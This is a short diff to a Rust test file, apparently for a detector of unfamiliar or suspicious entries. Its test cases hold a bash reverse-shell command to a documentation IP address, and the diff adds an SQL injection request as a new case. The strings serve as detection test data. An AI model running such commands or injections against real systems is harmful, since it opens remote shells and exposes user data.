@@ -89,6 +89,10 @@ fn whoever_is_new_is_not() {
             &[KNOWN[0], "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
         ),
         (
+            "a deed told by folded letters",
+            &[KNOWN[0], "GET /index.php?id=1 UNION SELECT name FROM users"],
+        ),
+        (
             "another deed",
             &["bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
         ),
